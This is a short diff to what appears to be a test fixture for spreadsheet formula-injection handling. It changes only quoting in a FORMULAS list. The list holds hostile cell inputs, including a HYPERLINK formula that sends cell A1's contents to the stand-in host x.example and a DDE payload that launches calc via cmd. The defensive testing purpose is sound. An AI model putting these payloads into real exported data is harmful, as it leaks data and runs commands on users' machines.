@@ -16,11 +16,11 @@ PHONES = ["+49 5323 72-0", "+49 (0)3741 123456", "+44 20 7946 0958", "-12", "+1.
 FORMULAS = [
     "=1+1",
     "@SUM(A1)",
-    "+49+HYPERLINK(\"http://x.example/?\"&A1)",
+    '+49+HYPERLINK("http://x.example/?"&A1)',
     "-1+cmd|' /C calc'!A0",
     "+A1",
     "+1:1",
-    "-2^10 & \"x\"",
+    '-2^10 & "x"',
     "+49 5323 x",
     "+\u0661\u0662",  # digits of another script: not a number to every spreadsheet
     " +49 5323",  # a space before: LibreOffice may trim it
